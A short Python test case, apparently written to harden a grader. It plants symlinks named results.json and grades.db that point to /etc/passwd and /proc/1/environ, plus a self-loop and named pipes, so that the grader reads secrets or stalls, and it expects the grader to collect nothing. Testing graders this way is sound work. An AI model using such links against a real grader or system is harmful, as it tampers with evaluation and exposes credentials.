"""Leave links from the private folder to files outside, for the grader to follow.

Instead: the grader collects no file of a submission.
Points: same
"""

import os

print("TRIED")
for name, target in (
    ("results.json", "/etc/passwd"),
    ("grades.db", "/proc/1/environ"),
    ("stdout", "/dev/full"),
    ("loop", "loop"),
):
    try:
        os.symlink(target, name)
        os.mkfifo("pipe-" + name)
    except OSError:
        pass
